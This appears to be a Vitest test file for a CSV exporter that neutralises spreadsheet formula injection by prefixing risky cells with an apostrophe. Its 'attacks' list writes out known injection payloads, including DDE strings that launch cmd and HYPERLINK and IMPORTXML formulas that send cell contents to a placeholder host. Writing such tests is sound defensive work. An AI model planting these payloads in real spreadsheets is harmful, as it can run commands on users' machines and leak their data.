import { expect, test } from "vitest";
import { csvText } from "./csv-text.ts";

/** What a spreadsheet may skip before it looks for a formula. */
const skipped = [
  "", " ", "   ", "\t", "\r", "\n", "\r\n", "\v", "\f", "\u0085", "\u00A0", "\u3000", "\u2003", "\u2028", "\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF",
  "\u202E", "\u00AD", "\u180E", "\u200E\u200B ", '"', "“", "‘",
];
const signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−", "⁼", "₊", "|", "%"];
/** Formulas of every kind that are known from attacks, DDE among them. */
const attacks = [
  "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
  '=HYPERLINK("http://example.invalid?x="&A1,"点我")', "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")", '=WEBSERVICE("http://example.invalid")', "=IMAGE(\"http://example.invalid/x.png\")",
  "=A1;B1", "=1\n+1", '="a""b"', "%0A=1+1", "|calc", "'=1+1", "''=1+1", "\u0000=1+1", "\u001B=1+1", "\u007F=1+1",
];
const forms = [...skipped.flatMap((before) => signs.map((sign) => `${before}${sign}SUM(A1:A9)`)), ...attacks];

/** Reads a table as RFC 4180 has it: quoted fields may hold commas, quotes and lines. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n|$)/gy;
  cell.lastIndex = text.startsWith("\uFEFF") ? 1 : 0;
  while (cell.lastIndex < text.length) {
    const found = cell.exec(text);
    if (!found) throw new Error("not a table");
    const [, raw = "", end] = found;
    rows.at(-1)?.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (end === "\r\n") rows.push([]);
  }
  return rows.slice(0, -1);
}

/** What a person reads of a cell: the mark before a formula belongs to the file. */
const shown = (cell: string): string => (cell.startsWith("'") ? cell.slice(1) : cell);

test("C15: more than 60 ways to begin a formula are read back as text behind an apostrophe", () => {
  expect(forms.length).toBeGreaterThan(400);
  const rows = parse(csvText(forms.map((form) => ["编号", form, form, "完"])));
  expect(rows).toHaveLength(forms.length);
  for (const [i, form] of forms.entries()) expect(rows[i], JSON.stringify(form)).toEqual(["编号", `'${form}`, `'${form}`, "完"]);
});

test("C15: what a person wrote is still what a person reads, and ordinary words get no mark", () => {
  const plain = ["三楼的接头滴了一个星期", "a, b", 'he said "no"', "line\nline", "line\r\nline", "a;b", "a\tb", " 前后空格 ", "1-1", "a=b", "13800001111", "2024-03-01 09:00", "№ 3", "（一）", "C&A", "\\", ""];
  for (const text of [...plain, ...forms]) expect(shown(parse(csvText([[text]]))[0]?.[0] ?? "?"), JSON.stringify(text)).toBe(text);
  for (const text of plain) expect(parse(csvText([[text, "完"]])), JSON.stringify(text)).toEqual([[text, "完"]]);
});

test("C15: separators, quotes and lines inside a cell make no other cell", () => {
  const rows = [["a,=1", "b\r\n=1", 'c",=1,"', "d\n\n=1"], ["", null, -3, 4.5]] as const;
  expect(parse(csvText(rows))).toEqual([["a,=1", "b\r\n=1", 'c",=1,"', "d\n\n=1"], ["", "", "-3", "4.5"]]);
});

const standsBefore = ["", " ", "\t", "\r", "\n", "\u3000", "\u200B", "\uFEFF", '"', "“", "'"];
const plainSigns = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "|", "%"];

test("C15: every cell that could be a formula is text, whatever stands before its sign", () => {
  for (const form of standsBefore.flatMap((one) => plainSigns.map((sign) => `${one}${sign}SUM(1)`))) {
    const cell = csvText([[form]]).slice(1, -2);
    expect(cell.replace(/^"/, ""), JSON.stringify(form)).toMatch(/^'/);
  }
});

test("leaves ordinary words and numbers as they are, and quotes what would make another cell", () => {
  expect(csvText([["三楼的接头滴了", "13800138000", -3, null, 'a "b", c', "d\ne"]])).toBe('\uFEFF三楼的接头滴了,13800138000,-3,,"a ""b"", c","d\ne"\r\n');
});
